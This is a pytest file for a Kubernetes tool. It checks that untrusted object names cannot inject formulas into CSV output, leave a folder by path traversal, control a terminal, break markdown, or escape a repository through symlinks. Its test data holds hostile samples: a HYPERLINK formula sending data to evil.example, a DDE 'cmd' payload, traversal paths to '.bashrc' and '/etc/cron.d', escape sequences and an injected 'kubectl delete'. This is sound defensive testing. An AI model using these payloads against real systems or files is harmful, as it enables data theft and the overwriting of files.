"""Attacks by names of objects on the files that commands write: formulas in CSV, and paths out of a folder."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable
from contextlib import suppress
from dataclasses import replace
from functools import partial
from pathlib import Path
from types import SimpleNamespace
from typing import Any, cast

import msgspec
import pytest
from pydantic import ValidationError
from rich.console import Console
from rich.text import Text

import trimtab
from harness.builders.records import workload
from scan.patches.changes import change
from scan.scans import scan_result
from store.builders import entry
from trimtab.actuation.change_annotations import (
    ChangeAnnotations,
    OngoingChange,
    Phase,
    PodHealth,
    RevertRecord,
    UpdateMethod,
    decode_change_annotations,
    encode_change_annotations,
)
from trimtab.api.kpiprofile import KPIProfileSpec
from trimtab.atomic_write import check_file_name
from trimtab.cli._common.scan_options import render_text
from trimtab.cli.history import _render_csv
from trimtab.cli.patch import _edit_helm, _edit_manifests, _write_patches
from trimtab.errors import TrimtabError
from trimtab.kube.kinds.workloads import WorkloadKey
from trimtab.printable import escape_cells
from trimtab.scan.model import SkippedWorkload
from trimtab.scan.patches import render as patch_rendering
from trimtab.scan.patches.change import ResourceChange
from trimtab.scan.patches.patch_folder import build_file_name
from trimtab.scan.patches.repository import check_links
from trimtab.scan.render.markdown import render_markdown

FORMULAS = (
    '=HYPERLINK("http://evil.example?"&A1)',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "\t=1",
    "＝1+1",  # noqa: RUF001 - a full-width sign, which spreadsheets take too
)
SOURCES = Path(trimtab.__file__).parent


@pytest.mark.parametrize("formula", FORMULAS)
def test_history_csv_has_no_cell_that_is_a_formula(formula: str) -> None:
    row = msgspec.structs.replace(entry(1), who=formula, why=formula, name=formula)
    _, cells = csv.reader(io.StringIO(_render_csv([row])))
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "＝"))]  # noqa: RUF001
    assert f"'{formula}" in cells


def test_escape_cells_keeps_numbers_and_plain_text() -> None:
    row = ["web", -1.5, "-1.5", "+3e4", None, "a=b", ""]
    assert escape_cells(row) == row


def test_csv_writers_escape_their_cells() -> None:
    writers = [path for path in SOURCES.rglob("*.py") if "csv.writer(" in path.read_text()]
    assert len(writers) >= 5
    assert [
        path.name
        for path in writers
        if "escape_cells(" not in path.read_text().replace("map(escape_cells, ", "escape_cells(")
    ] == []
    assert not [path.name for path in SOURCES.rglob("*.py") if "DictWriter" in path.read_text()]


@pytest.mark.parametrize("name", ["../../.bashrc", "a/b", "..\\evil", "/etc/cron.d/x", "x\0y", ".."])
def test_file_name_of_an_object_cannot_leave_its_folder(name: str) -> None:
    with pytest.raises(TrimtabError, match="leads out of the folder"):
        check_file_name(name)
    hostile = msgspec.structs.replace(workload("web", containers=({"name": "app"},)), name=name, namespace="")
    if name != "..":
        with pytest.raises(TrimtabError, match="leads out of the folder"):
            build_file_name(hostile)


def test_file_name_of_a_real_object_is_kept() -> None:
    assert check_file_name("shop.deployment.web-1.example.yaml") == "shop.deployment.web-1.example.yaml"


FORGED = "evil\x1b[2J\x1b]0;owned\x07\n---\r" * 200


@pytest.mark.parametrize("record", ["reverted", "change"])
def test_texts_of_forged_annotations_are_short_and_printable(record: str) -> None:
    """They reach statuses, Events and the history."""
    stated: dict[str, Any] = {
        "reverted": RevertRecord(id=FORGED, at=1, why=FORGED, times=1, until=2),
        "change": OngoingChange(
            id=FORGED,
            started=1,
            method=UpdateMethod.IN_PLACE,
            template={},
            health=PodHealth(pods=1),
            before={},
            after={},
            phase=Phase.PROMOTING,
            since=1,
            reason=FORGED,
            abandon_reason=FORGED,
        ),
    }
    written = encode_change_annotations(ChangeAnnotations(**{record: stated[record]}), uid="u")
    read = decode_change_annotations(written, uid="u")
    assert isinstance(read, ChangeAnnotations)
    found = getattr(read, record)
    for name in ("id", "why", "reason", "abandon_reason"):
        text = getattr(found, name, "evil")
        assert text.startswith("evil")
        assert text.isprintable()
        assert len(text) <= 1000


@pytest.mark.parametrize("is_terminal", [False, True])
def test_rendered_text_of_others_cannot_control_a_terminal(
    monkeypatch: pytest.MonkeyPatch, *, is_terminal: bool
) -> None:
    monkeypatch.setattr(Console, "is_terminal", is_terminal)
    text = render_text(
        lambda _: [Text("fine\nmore", style="bold"), Text(FORGED[:40]), FORGED[:40]], to_file=False
    )
    styles = re.compile(r"\x1b\[[0-9;]*m")
    assert styles.sub("", text).replace("\n", "").isprintable()
    assert text.startswith("\x1b[1m" if is_terminal else "fine\nmore\n")


@pytest.mark.parametrize(
    "text",
    ["![x](http://evil.example/pixel)", "[click](javascript:alert(1))", "@everyone", "`code`", "<img src=x>", "**big**", "a|b",
     "\\`code\\`", "a\n# heading"],
)  # fmt: skip
def test_markdown_of_a_scan_quotes_texts_of_others_literally(text: str) -> None:
    skipped = SkippedWorkload(WorkloadKey("Deployment", "shop", "web"), text)
    rendered = render_markdown(replace(scan_result(), skipped=(skipped,)), top=1)
    (line,) = [line for line in rendered.splitlines() if line.endswith(": shop/deploy/web")]
    quoted = line.removeprefix("- ").rpartition(": ")[0]
    bare = re.sub(r"\\[\\`*\[\]|~]", "", quoted)
    assert not re.search(r"[`*\[\]|<\\]|@\w", bare)


@pytest.mark.parametrize(
    "endpoint", ["http://a\x1b[2J.b/", "http://a.b/\n", "http://a.b/\x00", "http://a b", "http://é.b"]
)
def test_endpoint_of_a_profile_with_control_characters_is_refused(endpoint: str) -> None:
    with pytest.raises(ValidationError, match="endpoint must be a URL"):
        KPIProfileSpec.model_validate({"type": "custom", "query": "x", "props": {"endpoint": endpoint}})


def test_command_of_a_patch_has_no_line_of_others() -> None:
    change = SimpleNamespace(basis="a\nkubectl delete ns shop", confidence="low")
    with pytest.MonkeyPatch.context() as patched:
        patched.setattr(patch_rendering, "_render_kubectl", lambda _: "kubectl")
        rendered = patch_rendering.render_command(cast("ResourceChange", change))
    assert rendered.splitlines() == ["# a\\nkubectl delete ns shop", "kubectl"]


MANIFEST = (
    "apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: web}\nspec:\n  template:\n    spec:\n"
    "      containers:\n      - name: web\n        resources: {requests: {cpu: 1, memory: 1Gi}, limits: {memory: 2Gi}}\n"
)


@pytest.fixture
def repository(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The repository of a tenant, beside files of the administrator who runs the command."""
    monkeypatch.setattr("trimtab.scan.patches.repository.find_kustomize", lambda: None)
    folder = tmp_path / "repository"
    (folder / "apps").mkdir(parents=True)
    (folder / ".git").mkdir()
    return folder


@pytest.mark.parametrize("edit", [_edit_manifests, partial(_edit_helm, paths=(), chart=None)])
def test_patch_edits_no_file_behind_a_link_out_of_the_repository(
    repository: Path, edit: Callable[..., int]
) -> None:
    victim = repository.parent / "victim.yaml"
    victim.write_text(MANIFEST)
    (repository / "apps" / "web.yaml").symlink_to(victim)
    (repository / "apps" / "endless.yaml").symlink_to("/dev/zero")
    edit([repository / "apps"], [change()], write=True)
    assert victim.read_text() == MANIFEST


def test_patch_edits_files_behind_links_within_the_repository(repository: Path) -> None:
    (repository / "base.yaml").write_text(MANIFEST)
    (repository / "apps" / "web.yaml").symlink_to("../base.yaml")
    assert _edit_manifests([repository / "apps"], [change()], write=True) == 0
    assert "cpu: 100m" in (repository / "base.yaml").read_text()


@pytest.mark.parametrize("edit", [_edit_manifests, partial(_edit_helm, paths=(), chart=None)])
@pytest.mark.parametrize("name", ["web.yaml", "linked", "linked/web.yaml"])
@pytest.mark.parametrize("other", [".git", "no-git"])
def test_patch_refuses_to_edit_what_is_named_by_a_link_out_of_the_repository(
    repository: Path, edit: Callable[..., int], name: str, other: str
) -> None:
    """The target may be a repository itself, of somebody else."""
    out = repository.parent / "out"
    (out / other).mkdir(parents=True)
    (out / "web.yaml").write_text(MANIFEST)
    (repository / "web.yaml").symlink_to(out / "web.yaml")
    (repository / "linked").symlink_to("../out")
    with pytest.raises(TrimtabError, match=r"a link leads out of .*repository, so nothing is written"):
        edit([repository / name], [change()], write=True)
    assert (out / "web.yaml").read_text() == MANIFEST


def test_patch_edits_a_repository_that_the_user_reaches_by_a_link(repository: Path) -> None:
    (repository / "apps" / "web.yaml").write_text(MANIFEST)
    (repository.parent / "work").symlink_to(repository)
    assert _edit_manifests([repository.parent / "work" / "apps"], [change()], write=True) == 0
    assert "cpu: 100m" in (repository / "apps" / "web.yaml").read_text()


@pytest.mark.parametrize("form", ["kustomize", "strategic"])
def test_patch_writes_no_folder_behind_a_link_out_of_the_repository(repository: Path, form: Any) -> None:
    out = repository.parent / "out"
    out.mkdir()
    (repository / "patches").symlink_to("../out")
    for folder in (repository / "patches", repository / "patches" / "new"):
        with pytest.raises(TrimtabError, match="a link leads out of"):
            _write_patches([change()], form, folder)
    assert not list(out.iterdir())


def test_links_of_a_path_count_from_the_repository_around_it(repository: Path) -> None:
    out = repository.parent / "out"
    out.mkdir()
    (repository / "linked").symlink_to(out)
    with pytest.raises(TrimtabError, match="a link leads out of"):
        check_links([repository / "linked" / "d.yaml"], repository)


@pytest.mark.parametrize("name", ["shop.deployment.web.yaml", "kustomization.yaml"])
@pytest.mark.parametrize("text", [None, "a: b\n"])
def test_patch_writes_no_file_behind_a_link_out_of_the_repository(
    repository: Path, name: str, text: str | None
) -> None:
    victim = repository.parent / "victim.yaml"
    if text is not None:
        victim.write_text(text)
    (repository / "apps" / name).symlink_to(victim)
    with suppress(TrimtabError):  # a file that is no patch is not changed anyway
        _write_patches([change()], "kustomize", repository / "apps")
    assert (victim.read_text() if victim.exists() else None) == text
